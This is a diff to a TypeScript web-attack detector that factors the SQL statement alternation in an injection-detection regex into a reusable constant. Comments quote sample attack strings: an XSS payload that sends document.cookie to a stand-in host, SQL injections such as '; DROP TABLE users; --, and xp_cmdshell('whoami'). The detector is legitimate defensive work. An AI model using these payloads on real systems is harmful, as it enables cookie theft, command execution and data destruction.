@@ -52,6 +52,9 @@ const PRINT_PROBE = String.raw`print\s*[(\x60]`
 /** An escape written out where a filter-evading vector puts a control character (`\x0B`, `\xE2\x80\x89`). */
 const WRITTEN_ESCAPE = String.raw`(?:\\x[0-9a-fA-F]{2})`
 
+/** A statement that changes the database or stops it (after a value broken out of). */
+const CHANGES_DATABASE = String.raw`(?:DROP\s+(?:TABLE|DATABASE|SCHEMA)|DELETE\s+FROM|TRUNCATE\s+(?:TABLE\s+)?\w|ALTER\s+TABLE|UPDATE\s+\w+\s+SET|INSERT\s+INTO|SHUTDOWN\b)`
+
 const PAYLOADS: WebPayload[] = [
   {
     // <script>fetch('https://x/?c='+document.cookie)</script>; <svg onload=eval(atob('…'))>; javascript:fetch(…)
@@ -105,7 +108,10 @@ const PAYLOADS: WebPayload[] = [
   {
     // '; DROP TABLE users; --   "); DELETE FROM accounts --   1; EXEC xp_cmdshell('whoami')
     // 10; DROP TABLE users --   (a number's value closed, the rest of the query commented out)
-    re: /['"]\s*\)?\s*;\s*(?:DROP\s+(?:TABLE|DATABASE|SCHEMA)|DELETE\s+FROM|TRUNCATE\s+(?:TABLE\s+)?\w|ALTER\s+TABLE|UPDATE\s+\w+\s+SET|INSERT\s+INTO|SHUTDOWN\b|EXEC(?:UTE)?\s)|\bxp_cmdshell\b|(?<![\w.])\d+\s*\)?\s*;\s*(?:DROP\s+(?:TABLE|DATABASE|SCHEMA)|DELETE\s+FROM|TRUNCATE\s+(?:TABLE\s+)?\w|ALTER\s+TABLE|UPDATE\s+\w+\s+SET|INSERT\s+INTO|SHUTDOWN\b)[^\n;]{0,200};?[ \t]*(?:--|#|\/\*)[ \t]*\.?[ \t]*$/gim,
+    re: new RegExp(
+      String.raw`['"]\s*\)?\s*;\s*(?:${CHANGES_DATABASE}|EXEC(?:UTE)?\s)|\bxp_cmdshell\b|(?<![\w.])\d+\s*\)?\s*;\s*${CHANGES_DATABASE}[^\n;]{0,200};?[ \t]*(?:--|#|\/\*)[ \t]*\.?[ \t]*$`,
+      'gim',
+    ),
     severity: 'high',
     what: 'SQL that breaks out of a value and changes the database',
     gate: (body) => SQL_GATE.test(body),
